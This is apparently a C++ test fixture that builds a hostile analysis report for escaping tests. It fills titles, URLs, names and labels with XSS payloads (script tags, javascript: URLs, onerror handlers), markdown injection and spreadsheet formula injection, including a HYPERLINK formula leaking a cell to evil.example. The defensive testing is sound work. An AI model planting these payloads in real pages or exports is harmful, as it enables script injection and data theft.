// The hostile variant of the reference-case report (see hostile_fixture.h).
#include "tests/testutil/hostile_fixture.h"

#include <fmt/format.h>

#include "tests/testutil/report_fixture.h"

namespace vigil::testutil {
namespace {

const char* const kTitles[] = {
    "<script>alert('title')</script>",
    "[click me](javascript:alert('md-link'))",
    "![x](javascript:alert('md-image')) <img src=x onerror=alert('img')>",
    "| forged | table | row |\n| --- | --- |",
    "line one\r\n# forged heading\n<iframe src=javascript:alert(1)>",
    "\"quoted\", with commas, and \"\"doubled\"\" quotes",
    "<a href=\"javascript:alert('a')\">plain anchor</a> &lt;entity&gt; &#106;",
};

}  // namespace

const std::vector<std::string>& HostileUrls() {
  static const std::vector<std::string> kUrls = {
      "javascript:alert('url')",
      "JaVaScRiPt:alert(document.domain)",
      " javascript:alert('leading space')",
      "java\tscript:alert('tab')",
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      "vbscript:msgbox('vb')",
      "//evil.example/protocol-relative",
      "javascript&#58;alert('entity')",
      "https://ok.example/\" onmouseover=\"alert('attr')",
      "https://ok.example/a) ![i](javascript:alert('paren')",
  };
  return kUrls;
}

const std::vector<std::string>& FormulaPayloads() {
  static const std::vector<std::string> kFormulas = {
      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "  =1+1",
      "=1+1, \"with\" quotes\nand a newline",
  };
  return kFormulas;
}

AnalysisReport MakeHostileReport() {
  AnalysisReport report = MakeReferenceCaseReport();
  Incident& incident = report.incidents[0];
  size_t n = 0;
  for (uint32_t index : incident.evidence_posts) {
    Post& post = report.posts[index];
    post.title = kTitles[n % std::size(kTitles)];
    post.url = HostileUrls()[n % HostileUrls().size()];
    post.account_name = FormulaPayloads()[n % FormulaPayloads().size()];
    ++n;
  }
  for (size_t a = 0; a < incident.coordination.amplifiers.size(); ++a) {
    Amplification& amplification = incident.coordination.amplifiers[a];
    const std::string name = FormulaPayloads()[a % FormulaPayloads().size()];
    for (Post& post : report.posts) {
      if (post.account_id == amplification.account_id) {
        post.account_name = name;
        post.url = HostileUrls()[a % HostileUrls().size()];
      }
    }
    amplification.account_name = name;
  }
  // An account id with a quote and a comma, and one that is a formula.
  for (const auto& [from, to] : {std::pair<std::string, std::string>{"gh_amp01", "gh_\"amp\",01"}, {"gh_amp02", "=gh_amp02()"}}) {
    for (Post& post : report.posts) {
      if (post.account_id == from) post.account_id = to;
    }
    for (Amplification& amplification : incident.coordination.amplifiers) {
      if (amplification.account_id == from) amplification.account_id = to;
    }
  }
  incident.actor.name = "<img src=x onerror=alert('actor')> [actor](javascript:alert('actor'))";
  incident.actor.notes = "<script>alert('notes')</script> | notes |";
  report.config.actors[0] = incident.actor;
  incident.target_name = "Mark Carney</title><script>alert('target')</script>";
  incident.narratives[0].label = "![n](javascript:alert('narrative')) | <b>bold</b>";
  incident.narratives[1].label = "</text><script>alert('svg')</script>";
  for (Event& event : report.config.events) event.label = "</text><script>alert('event')</script>" + event.label;
  for (Surge& surge : incident.surges) {
    for (EventRef& ref : surge.preceding_events) ref.event.label = "[e](javascript:alert('event'))" + ref.event.label;
  }
  incident.contributions[0].explanation = "<script>alert('why')</script> | =1+1 | [x](javascript:alert(1))";
  incident.baseline.peer_group_id = "\"><script>alert('peer')</script>";
  incident.history[0].target_name = "<svg onload=alert('history')>";
  report.case_name = "</title><script>alert('case')</script>";
  return report;
}

}  // namespace vigil::testutil
